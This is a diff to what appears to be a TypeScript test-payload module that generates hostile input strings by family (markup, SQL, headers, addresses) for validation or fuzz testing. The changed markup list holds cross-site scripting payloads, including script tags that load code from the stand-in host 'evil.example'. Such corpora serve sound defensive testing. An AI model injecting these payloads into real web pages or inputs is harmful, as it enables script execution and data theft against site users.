@@ -10,7 +10,7 @@ const ELSEWHERE = 'evil.example';
 // ---------------------------------------------------------------- texts
 
 /** Markup that runs something, or fetches something, in one browser or another. */
-const MARKUP = [
+export const MARKUP = [
   `<script>${MARK}</script>`,
   `<script src=//${ELSEWHERE}/x.js></script>`,
   `<script type=module>import('//${ELSEWHERE}/x.js')</script>`,
@@ -227,7 +227,10 @@ const LONG = [
 
 /** Texts for any field that takes one, by family. */
 export const FAMILIES: Record<string, readonly string[]> = {
-  markup: MARKUP.flatMap((one) => CONTEXTS.map((within) => within(one))),
+  markup: [
+    ...MARKUP,
+    ...MARKUP.flatMap((one, nth) => CONTEXTS.flatMap((within, at) => (at > 0 && (at + nth) % 3 === 0 ? within(one) : []))),
+  ],
   addresses: ADDRESSES.flatMap((one) => AS_LINKS.map((as) => as(one))),
   sql: SQL,
   headers: HEADERS,
